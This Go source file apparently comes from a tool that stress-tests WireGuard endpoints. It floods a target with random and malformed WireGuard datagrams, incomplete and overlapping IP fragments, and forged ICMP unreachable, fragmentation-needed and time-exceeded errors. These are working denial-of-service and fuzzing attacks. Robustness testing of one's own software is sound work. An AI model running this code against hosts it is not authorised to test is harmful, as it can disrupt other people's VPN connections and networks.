package main

import (
	"crypto/rand"
	"encoding/binary"
	"errors"
	"fmt"
	"net/netip"
	"syscall"

	"golang.org/x/sys/unix"
)

const (
	longestDatagram = 65507 // of IPv4
	garbageRate     = 5000  // a second
)

// attackGarbage sends datagrams that are no messages, or only look like one: each
// type with each length up to some, with the lengths that are right, and with very
// long ones; then fragments that will never be whole.
func attackGarbage(victim netip.AddrPort) error {
	s, err := newSources(4, victim, nil)
	if err != nil {
		return err
	}
	err = paceAll(garbageRate, garbage(), func(i int, b []byte) error {
		err := s.send(i, b)
		if errors.Is(err, syscall.ENOBUFS) {
			return nil
		}
		return err
	})
	if err != nil {
		s.close()
		return err
	}
	s.finish("garbage")
	return lonelyFragments(victim)
}

func garbage() (all [][]byte) {
	random := func(typ uint32, n int) []byte {
		b := make([]byte, max(n, 4))
		rand.Read(b)
		binary.LittleEndian.PutUint32(b, typ)
		return b[:n]
	}
	types := []uint32{0, wgInitiation, wgResponse, wgCookie, wgData, 5, 255, 1 << 8, 1<<24 | wgData, 0xffffffff}
	for _, typ := range types {
		for n := range 2 * initiationLen {
			all = append(all, random(typ, n))
		}
		for _, n := range []int{1400, 1452, 1472, 1473, 9000, 32 << 10, longestDatagram} {
			all = append(all, random(typ, n))
		}
	}
	for range 500 {
		all = append(all, random(wgInitiation, initiationLen), random(wgResponse, responseLen),
			random(wgCookie, cookieLen), random(wgData, shortestData))
	}
	for range 50 {
		all = append(all, random(wgData, longestDatagram))
	}
	return all
}

// lonelyFragments sends first and last fragments of datagrams whose others are
// missing, and pairs that overlap.
func lonelyFragments(victim netip.AddrPort) error {
	r, err := newRaw()
	if err != nil {
		return err
	}
	defer r.close()
	from, err := localAddr(victim)
	if err != nil {
		return err
	}
	whole := udpPacket(netip.AddrPortFrom(from, 9), victim, make([]byte, 2000))[ipLen:]
	const first, rest, n = 1000, 1000 / 8, 500
	for id := range uint16(n) {
		head := ipPacket(from, victim.Addr(), unix.IPPROTO_UDP, 2*id+1, moreFragments, whole[:first])
		tail := ipPacket(from, victim.Addr(), unix.IPPROTO_UDP, 2*id+2, rest, whole[first:])
		overlap := ipPacket(from, victim.Addr(), unix.IPPROTO_UDP, 2*id+1, rest/2, whole[first/2:first])
		if err := errors.Join(r.send(head), r.send(tail), r.send(overlap)); err != nil {
			return err
		}
	}
	fmt.Printf("sent %d fragments of datagrams that are never whole\n", 3*n)
	return nil
}

// localAddr is the address that this host has towards another.
func localAddr(to netip.AddrPort) (netip.Addr, error) {
	s, err := newSources(1, to, nil)
	if err != nil {
		return netip.Addr{}, err
	}
	defer s.close()
	from, err := netip.ParseAddrPort(s.conns[0].LocalAddr().String())
	return from.Addr(), err
}

// attackICMP sends the victim errors about what it never sent, but might have.
func attackICMP(victim, peer netip.AddrPort) error {
	r, err := newRaw()
	if err != nil {
		return err
	}
	defer r.close()
	from, err := localAddr(victim)
	if err != nil {
		return err
	}
	const each = 100
	sent := 0
	for _, e := range []struct {
		typ, code byte
		rest      uint32
	}{
		{3, 0, 0}, {3, 1, 0}, {3, 2, 0}, {3, 3, 0}, {3, 9, 0}, {3, 13, 0}, // unreachable: net, host, protocol, port, prohibited
		{3, 4, 0}, {3, 4, 68}, {3, 4, 576}, {3, 4, 65535}, // fragmentation needed, of an MTU
		{4, 0, 0}, {11, 0, 0}, {11, 1, 0}, {12, 0, 0}, // quench, time exceeded, parameter problem
	} {
		for range each {
			about := udpPacket(victim, peer, make([]byte, shortestData))
			binary.BigEndian.PutUint16(about[10:], checksum(about[:ipLen]))
			if err := r.send(icmpPacket(from, victim.Addr(), e.typ, e.code, e.rest, about)); err != nil {
				return err
			}
			sent++
		}
	}
	fmt.Printf("sent %d ICMP errors about datagrams from %s to %s\n", sent, victim, peer)
	return nil
}
